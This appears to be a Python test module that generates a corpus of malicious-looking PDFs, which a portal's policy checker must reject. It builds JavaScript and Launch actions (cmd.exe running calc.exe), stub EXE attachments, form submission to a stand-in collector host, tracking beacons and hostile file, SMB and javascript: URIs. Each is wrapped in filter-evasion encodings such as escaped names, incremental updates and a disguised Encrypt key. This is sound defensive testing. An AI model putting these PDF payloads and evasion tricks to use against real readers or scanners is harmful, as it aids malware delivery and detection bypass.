"""PDFs the portal must refuse, each built as real PDF structure with pikepdf, in many byte encodings.

CASES holds one Case per (active content, encoding). `kind` names what a policy check must find:
script, launch, remote_goto, import_data, submit_form, richmedia, xfa, embedded_file, uri, open_action,
password (needs a user password to open) and damaged (no library can read it). tests/unit/test_corpus.py
proves each file is what it claims by opening it with pikepdf and walking the object graph.
"""
import io

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.corpus import pdf_layout
from tests.corpus.case import Case
from tests.corpus.pdf_layout import Layout

USER_PASSWORD = "sick-note-2026"
OWNER_PASSWORD = "owner-only-secret"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00" + b"\x00" * 64


def base_document():
    """A two-page 'sick note' with text in Helvetica: the harmless file every payload is added to."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for number, line in enumerate((b"Medical certificate: unfit for work 3-5 March.", b"Page two."), start=1):
        pdf.add_blank_page(page_size=(595, 842))
        page = pdf.pages[-1]
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        text = b"BT /F1 14 Tf 60 760 Td (" + line + b") Tj 0 -20 Td (Page %d) Tj ET" % number
        page.obj.Contents = pdf.make_indirect(pikepdf.Stream(pdf, text))
    return pdf


def _save(pdf, **options):
    buffer = io.BytesIO()
    pdf.save(buffer, static_id=True, **options)
    return buffer.getvalue()


def _js(code="app.alert('You have been checked');"):
    return Dictionary(S=Name.JavaScript, JS=String(code))


def _goto(pdf, page_index=1, **extra):
    return Dictionary(S=Name.GoTo, D=Array([pdf.pages[page_index].obj, Name.Fit]), **extra)


def _annotate(pdf, annotation, page_index=0):
    """Put an annotation (a link by default) on a page and return it as an indirect object."""
    annotation.Type = Name.Annot
    annotation.Rect = Array([60, 700, 300, 720])
    annotation.P = pdf.pages[page_index].obj
    annot = pdf.make_indirect(annotation)
    page = pdf.pages[page_index].obj
    if "/Annots" not in page:
        page.Annots = pdf.make_indirect(Array())
    page.Annots.append(annot)
    return annot


def _link(pdf, action, page_index=0):
    return _annotate(pdf, Dictionary(Subtype=Name.Link, Border=Array([0, 0, 0]), A=pdf.make_indirect(action)),
                     page_index)


def _open_action(pdf, action):
    pdf.Root.OpenAction = pdf.make_indirect(action)


def _exe_filespec(pdf, name="invoice.exe"):
    stream = pikepdf.Stream(pdf, EXE)
    stream.Type = Name.EmbeddedFile
    stream.Params = Dictionary(Size=len(EXE))
    return pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String(name), UF=String(name),
                                        EF=Dictionary(F=pdf.make_indirect(stream))))


def _form(pdf, field):
    pdf.Root.AcroForm = pdf.make_indirect(Dictionary(Fields=Array([field]), DA=String("/Helv 0 Tf 0 g")))


def _widget(pdf, **entries):
    return _annotate(pdf, Dictionary(Subtype=Name.Widget, FT=Name.Tx, T=String("days"), F=4, **entries))


def _js_stream_open_action(pdf):
    _open_action(pdf, Dictionary(S=Name.JavaScript, JS=pdf.make_indirect(pikepdf.Stream(pdf, b"app.alert(1);"))))


def _js_name_tree(pdf):
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), pdf.make_indirect(_js())])))


def _next_chain(pdf, last):
    return _goto(pdf, 1, Next=_goto(pdf, 0, Next=Array([last])))


def _richmedia_annotation(pdf):
    content = Dictionary(Assets=Dictionary(Names=Array()), Configurations=Array(
        [Dictionary(Type=Name.RichMediaConfiguration, Subtype=Name.Flash, Instances=Array())]))
    return _annotate(pdf, Dictionary(Subtype=Name.RichMedia, RichMediaContent=content,
                                     RichMediaSettings=Dictionary(Activation=Dictionary(Condition=Name.PO))))


def _richmedia_execute(pdf):
    target = _richmedia_annotation(pdf)
    _link(pdf, Dictionary(S=Name.RichMediaExecute, TA=target, CMD=Dictionary(C=String("play"))), 1)


def _xfa(pdf, as_array):
    packet = pdf.make_indirect(pikepdf.Stream(pdf, b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>'
                                                  b'<subform><event activity="initialize"><script>app.alert(1)'
                                                  b'</script></event></subform></template></xdp:xdp>'))
    xfa = Array([String("template"), packet]) if as_array else packet
    pdf.Root.AcroForm = pdf.make_indirect(Dictionary(Fields=Array(), XFA=xfa))


def _attach_to_name_tree(pdf):
    pdf.attachments["report.exe"] = pikepdf.AttachedFileSpec(pdf, EXE, filename="report.exe",
                                                             mime_type="application/x-msdownload")


def _file_attachment_annotation(pdf):
    _annotate(pdf, Dictionary(Subtype=Name.FileAttachment, FS=_exe_filespec(pdf), Name=Name.PushPin,
                              Contents=String("Invoice")))


def _uri_link(uri):
    return lambda pdf: _link(pdf, Dictionary(S=Name.URI, URI=String(uri)))


# name -> (kind, payload(pdf)); the payload adds one piece of active content to the base document.
PAYLOADS = {
    "js_open_action": ("script", lambda pdf: _open_action(pdf, _js())),
    "js_stream_open_action": ("script", _js_stream_open_action),
    "js_name_tree": ("script", _js_name_tree),
    "js_page_aa": ("script", lambda pdf: setattr(pdf.pages[0].obj, "AA", Dictionary(O=pdf.make_indirect(_js())))),
    "js_catalog_aa": ("script", lambda pdf: setattr(pdf.Root, "AA", Dictionary(WC=pdf.make_indirect(_js())))),
    "js_link": ("script", lambda pdf: _link(pdf, _js())),
    "js_next_chain": ("script", lambda pdf: _open_action(pdf, _next_chain(pdf, _js()))),
    "js_rendition": ("script", lambda pdf: _link(pdf, Dictionary(S=Name.Rendition, OP=0, JS=String("app.alert(2)")))),
    "js_field_keystroke": ("script", lambda pdf: _form(pdf, _widget(pdf, AA=Dictionary(K=_js())))),
    "js_in_named_action": ("script", lambda pdf: _link(pdf, Dictionary(S=Name.Named, N=Name.NextPage,
                                                                       JS=String("app.alert(3)")))),
    "launch_open_action": ("launch", lambda pdf: _open_action(pdf, Dictionary(S=Name.Launch, F=String("calc.exe")))),
    "launch_win_link": ("launch", lambda pdf: _link(pdf, Dictionary(S=Name.Launch, Win=Dictionary(
        F=String("cmd.exe"), P=String("/c calc.exe"), O=String("open"))))),
    "launch_filespec_link": ("launch", lambda pdf: _link(pdf, Dictionary(S=Name.Launch, F=Dictionary(
        Type=Name.Filespec, F=String("run.bat")), NewWindow=True))),
    "gotor_link": ("remote_goto", lambda pdf: _link(pdf, Dictionary(S=Name.GoToR, F=String("other.pdf"),
                                                                    D=Array([0, Name.Fit]), NewWindow=True))),
    "gotoe_link": ("remote_goto", lambda pdf: _link(pdf, Dictionary(S=Name.GoToE, D=Array([0, Name.Fit]), T=Dictionary(
        R=Name.C, N=String("attachment.pdf"))))),
    "import_data_link": ("import_data", lambda pdf: _link(pdf, Dictionary(S=Name.ImportData, F=String("data.fdf")))),
    "import_data_page_aa": ("import_data", lambda pdf: setattr(pdf.pages[1].obj, "AA", Dictionary(
        O=pdf.make_indirect(Dictionary(S=Name.ImportData, F=String("data.fdf")))))),
    "submit_form_link": ("submit_form", lambda pdf: _link(pdf, Dictionary(S=Name.SubmitForm, Flags=4, F=Dictionary(
        FS=Name.URL, F=String("https://collector.example/submit"))))),
    "submit_form_widget": ("submit_form", lambda pdf: _form(pdf, _widget(pdf, A=Dictionary(
        S=Name.SubmitForm, F=String("https://collector.example/submit"))))),
    "richmedia_annotation": ("richmedia", _richmedia_annotation),
    "richmedia_execute": ("richmedia", _richmedia_execute),
    "xfa_stream": ("xfa", lambda pdf: _xfa(pdf, as_array=False)),
    "xfa_array": ("xfa", lambda pdf: _xfa(pdf, as_array=True)),
    "embedded_files_name_tree": ("embedded_file", _attach_to_name_tree),
    "filespec_ef_on_link": ("embedded_file", lambda pdf: setattr(
        _link(pdf, _goto(pdf, 1)), "FS", _exe_filespec(pdf, "notes.exe"))),
    "file_attachment_exe": ("embedded_file", _file_attachment_annotation),
    "uri_file": ("uri", _uri_link("file:///etc/passwd")),
    "uri_smb": ("uri", _uri_link("smb://fileserver/share/payload.exe")),
    "uri_unc": ("uri", _uri_link("\\\\fileserver\\share\\payload.exe")),
    "uri_javascript": ("uri", _uri_link("javascript:alert(document.cookie)")),
    "uri_data": ("uri", _uri_link("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")),
    "uri_padded_mixed_case_javascript": ("uri", _uri_link(" JavaScript:alert(1)")),
    "uri_tab_file_upper": ("uri", _uri_link("\tFILE:///C:/Windows/System32/calc.exe")),
    "uri_tab_inside_scheme": ("uri", _uri_link("java\tscript:alert(1)")),
    "open_action_uri_https": ("open_action", lambda pdf: _open_action(pdf, Dictionary(
        S=Name.URI, URI=String("https://tracker.example/opened")))),
    "open_action_named_print": ("open_action", lambda pdf: _open_action(pdf, Dictionary(S=Name.Named, N=Name.Print))),
    "page_aa_uri_https": ("open_action", lambda pdf: setattr(pdf.pages[0].obj, "AA", Dictionary(O=Dictionary(
        S=Name.URI, URI=String("https://tracker.example/page"))))),
    "open_action_goto_then_uri": ("open_action", lambda pdf: _open_action(pdf, _goto(pdf, 1, Next=Dictionary(
        S=Name.URI, URI=String("https://tracker.example/next"))))),
}

# One payload per dangerous kind goes through every encoding; the others are written plainly and packed.
MATRIX_PAYLOADS = ("js_open_action", "js_name_tree", "launch_win_link", "gotor_link", "import_data_link",
                   "submit_form_link", "richmedia_annotation", "xfa_stream", "file_attachment_exe",
                   "uri_javascript", "open_action_uri_https")


def with_payload(name):
    """The base document with one payload added, in memory."""
    pdf = base_document()
    PAYLOADS[name][1](pdf)
    return pdf


def _incremental(name, layout):
    """The harmless document as revision 1, the payload added by a later revision (an incremental update)."""
    base = _save(base_document(), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    before, _, _ = pdf_layout.objects_of(base)
    pdf = pikepdf.open(io.BytesIO(base))
    PAYLOADS[name][1](pdf)
    changed = {}
    for obj in pdf.objects:
        number = obj.objgen[0]
        if number and pdf_layout.serialise(obj) != before.get(number):
            changed[number] = pdf_layout.serialise(obj)
    return pdf_layout.incremental_update(base, changed, layout)


def _encr79pt_rc4(name):
    """Permissions-only RC4 (empty user password) in object streams, the trailer spelling /Encrypt as /Encr#79pt."""
    data = _save(with_payload(name), object_stream_mode=pikepdf.ObjectStreamMode.generate,
                 encryption=pikepdf.Encryption(owner=OWNER_PASSWORD, user="", R=3, aes=False, metadata=False))
    trailer_at = data.rindex(b"/Encrypt")
    return data[:trailer_at] + b"/Encr#79pt" + data[trailer_at + len(b"/Encrypt"):]


def _qpdf(mode):
    return lambda name: _save(with_payload(name), object_stream_mode=mode)


def _laid_out(**switches):
    return lambda name: pdf_layout.write(_save(with_payload(name)), Layout(**switches))


def _aes_permissions_only(name):
    return _save(with_payload(name), object_stream_mode=pikepdf.ObjectStreamMode.generate,
                 encryption=pikepdf.Encryption(owner=OWNER_PASSWORD, user="", R=6))


# encoding name -> writer(payload name) -> bytes
ENCODINGS = {
    "plain": _qpdf(pikepdf.ObjectStreamMode.disable),
    "object_stream": _qpdf(pikepdf.ObjectStreamMode.generate),
    "object_stream_png_predictor": _laid_out(object_stream=True, predictor=True),
    "indirect_filter": _laid_out(object_stream=True, indirect_filter=True),
    "escaped_names": _laid_out(escape_names=True),
    "escaped_names_in_predicted_object_stream": _laid_out(object_stream=True, predictor=True, escape_names=True),
    "comment_before_stream": _laid_out(object_stream=True, comment_before_stream=True),
    "key_containing_obj": _laid_out(object_stream=True, obj_key=True),
    "filter_4k_before_stream": _laid_out(object_stream=True, far_filter=True),
    "incremental_update": lambda name: _incremental(name, Layout()),
    "incremental_update_object_stream": lambda name: _incremental(name, Layout(object_stream=True, predictor=True)),
    "rc4_permissions_only_encr79pt": _encr79pt_rc4,
    "aes256_permissions_only": _aes_permissions_only,
}


def _password_cases():
    pdf = base_document()
    variants = {"aes256": dict(R=6), "aes128": dict(R=4, aes=True), "rc4_128": dict(R=3, aes=False, metadata=False),
                "rc4_40": dict(R=2, aes=False, metadata=False)}
    return [Case(f"password_{label}", _save(pdf, encryption=pikepdf.Encryption(
        owner=OWNER_PASSWORD, user=USER_PASSWORD, **options)), "password") for label, options in variants.items()]


def _damaged_cases():
    whole = _save(base_document(), object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return [
        Case("damaged_html_after_header", b"%PDF-1.7\n<html><body><script>alert(1)</script></body></html>\n", "damaged"),
        Case("damaged_header_only", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", "damaged"),
        Case("damaged_truncated_in_header_object", whole[:40], "damaged"),
        Case("damaged_trailer_without_objects", b"%PDF-1.4\ntrailer\n<< /Root 1 0 R /Size 2 >>\n%%EOF\n", "damaged"),
        Case("damaged_zero_bytes_after_header", b"%PDF-1.5\n" + b"\0" * 4096, "damaged"),
    ]


def build_cases():
    """Every case: the matrix of kinds x encodings, the other payloads plain and packed, passwords, damage."""
    cases = [Case(f"{name}__{encoding}", write(name), PAYLOADS[name][0])
             for name in MATRIX_PAYLOADS for encoding, write in ENCODINGS.items()]
    for name, (kind, _) in PAYLOADS.items():
        if name not in MATRIX_PAYLOADS:
            cases += [Case(f"{name}__plain", ENCODINGS["plain"](name), kind),
                      Case(f"{name}__object_stream_png_predictor", ENCODINGS["object_stream_png_predictor"](name), kind)]
    return cases + _password_cases() + _damaged_cases()


CASES: list[Case] = build_cases()
